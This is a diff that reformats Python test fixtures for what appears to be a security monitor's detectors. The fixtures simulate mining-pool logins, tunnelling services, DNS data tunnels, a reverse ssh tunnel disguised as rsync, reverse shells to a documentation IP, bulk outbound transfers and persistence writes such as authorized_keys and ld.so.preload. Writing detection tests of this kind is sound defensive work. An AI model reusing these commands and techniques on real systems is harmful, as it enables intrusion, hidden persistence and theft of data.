@@ -87,16 +87,20 @@ _Flows = dict[str, tuple[Any, ...]]
 
 def _mining() -> _Flows:
     slow = _closed(protocol="tls", duration_s=1800.0, bytes_in=90_000, bytes_out=30_000)
-    names = ("eu1.ethermine.org", "pool.hashvault.pro", "rx.unmineable.com", "xmr.2miners.com", "eu.stratum.braiins.com")
+    names = (
+        "eu1.ethermine.org",
+        "pool.hashvault.pro",
+        "rx.unmineable.com",
+        "xmr.2miners.com",
+        "eu.stratum.braiins.com",
+    )
     return {
         "a login on port 443": ([_connect(_FAR, 443), _flow(protocol="stratum")],),
         "a login that the gateway refused": ([_flow(protocol="stratum", port=14444, verdict="deny")],),
         "a login through a relay on port 80": ([_flow(protocol="stratum", port=80)],),
         **{f"the name {name}": ([_name(name), _connect(_FAR, 443, host=name)],) for name in names},
         "TLS to an unknown host while all cores compute": ([*[_cpu(7.9)] * 12, slow],),
-        "TLS to an unknown host while a GPU computes": (
-            [*[_gpu(29.0, interval_s=30.0, outside_s=0.0)] * 12, slow],
-        ),
+        "TLS to an unknown host while a GPU computes": ([*[_gpu(29.0, interval_s=30.0, outside_s=0.0)] * 12, slow],),
         "TLS named by its server name": ([_flow(protocol="tls", server_name="gulf.moneroocean.stream")],),
         "a renamed miner's real arguments": (
             [_asked("/tmp/x/systemd", "systemd", "-o", f"{_FAR}:443", "-u", "4" + "B" * 94, "-p", "x", "--tls")],
@@ -107,7 +111,15 @@ def _mining() -> _Flows:
 
 def _tunnels() -> _Flows:
     base32, hexadecimal = "abcdefghijklmnopqrstuvwxyz234567", "0123456789abcdef"
-    services = ("a-b.trycloudflare.com", "x.ngrok.io", "y.loca.lt", "serveo.net", "a.pinggy.io", "bore.pub", "localhost.run")
+    services = (
+        "a-b.trycloudflare.com",
+        "x.ngrok.io",
+        "y.loca.lt",
+        "serveo.net",
+        "a.pinggy.io",
+        "bore.pub",
+        "localhost.run",
+    )
     chat = _closed(protocol="websocket", duration_s=3600.0, bytes_in=40 << 20, bytes_out=25 << 20)
     return {
         "SSH on port 443": ([_connect(_FAR, 443), _flow(protocol="ssh")],),
@@ -115,12 +127,20 @@ def _tunnels() -> _Flows:
         "SOCKS5 to the outside": ([_flow(protocol="socks5", port=9050)],),
         "SOCKS4 to the outside": ([_flow(protocol="socks4", port=443)],),
         "a long WebSocket in both directions": ([_flow(protocol="websocket"), chat],),
-        "names that carry data, TXT": ([_name(f"{_label(n, 48, base32)}.d.example.net", "TXT") for n in range(40)], 0.3),
+        "names that carry data, TXT": (
+            [_name(f"{_label(n, 48, base32)}.d.example.net", "TXT") for n in range(40)],
+            0.3,
+        ),
         "names that carry data, A": ([_name(f"{_label(n, 60, hexadecimal)}.d.example.net") for n in range(40)], 0.3),
-        "names that carry data, NULL": ([_name(f"{_label(n, 50, base32)}.d.example.net", "NULL") for n in range(40)], 0.3),
+        "names that carry data, NULL": (
+            [_name(f"{_label(n, 50, base32)}.d.example.net", "NULL") for n in range(40)],
+            0.3,
+        ),
         "names that carry data, slowly": ([_name(f"{_label(n, 40, base32)}.d.example.net") for n in range(60)], 20.0),
         **{f"the service {name}": ([_name(name)],) for name in services},
-        "ssh -R under another name": ([_asked("/tmp/rsync", "rsync", "-N", "-R", "2222:localhost:22", "u@203.0.113.18")],),
+        "ssh -R under another name": (
+            [_asked("/tmp/rsync", "rsync", "-N", "-R", "2222:localhost:22", "u@203.0.113.18")],
+        ),
         "a call home each minute": ([_connect(_FAR, 443)] * 30, 60.0),
     }
 
@@ -129,9 +149,7 @@ def _shells() -> _Flows:
     other = "203.0.113.18"
     return {
         "bash connects itself": ([_asked("/bin/bash", "bash", "-i"), _runs("/usr/bin/bash"), _connect(other, 9001)],),
-        "sh after python connected": (
-            [_runs("/usr/bin/python3.11"), _connect(other, 4444), _asked("/bin/sh", "sh")],
-        ),
+        "sh after python connected": ([_runs("/usr/bin/python3.11"), _connect(other, 4444), _asked("/bin/sh", "sh")],),
         "a child becomes bash after perl connected": (
             [
                 _runs("/usr/bin/perl"),
@@ -176,7 +194,9 @@ def _guesses() -> Iterable[str]:
 def _exfiltration() -> _Flows:
     return {
         "200 MB in one flow": ([_closed(protocol="tls", bytes_out=200_000_000, bytes_in=90_000, duration_s=60.0)],),
-        "30 MB in ten flows": ([_closed(bytes_out=3_000_000, bytes_in=2000, duration_s=5.0, flow=n) for n in range(10)],),
+        "30 MB in ten flows": (
+            [_closed(bytes_out=3_000_000, bytes_in=2000, duration_s=5.0, flow=n) for n in range(10)],
+        ),
         "60 MB, a MB each minute": (
             [_closed(bytes_out=1_000_000, bytes_in=900, duration_s=4.0, flow=n) for n in range(60)],
             60.0,
@@ -215,15 +235,13 @@ def _diversion() -> _Flows:
 def _tampering() -> _Flows:
     return {
         "a key for logins": ([_opened("/root/.ssh/authorized_keys")],),
-        "a key for logins, renamed into place": (
-            [_opened("/tmp/k", "rename", path2="/home/u/.ssh/authorized_keys")],
-        ),
+        "a key for logins, renamed into place": ([_opened("/tmp/k", "rename", path2="/home/u/.ssh/authorized_keys")],),
         "a timer of the system": ([_opened("/etc/cron.d/backup")],),
         "a unit of the user's": ([_opened("/home/u/.config/systemd/user/a.service")],),
         "a library for every program": ([_opened("/etc/ld.so.preload")],),
         "a shell start-up file of the system": ([_opened("/etc/profile.d/a.sh")],),
         "a program out of memory": ([_runs("/memfd:kernel (deleted)")],),
-        "a program in shared memory": ([_runs("/dev/shm/.a")],),  # noqa: S108 - that is the attack
+        "a program in shared memory": ([_runs("/dev/shm/.a")],),
         "memory of another process": ([_opened("/proc/1/mem")],),
         "a kernel thread's name": ([_asked("/tmp/w", "[kworker/2:1]")],),
         "the monitor's own log": ([_opened("/home/u/.local/state/agentwatch/logs/a1b2c3d4.jsonl")],),
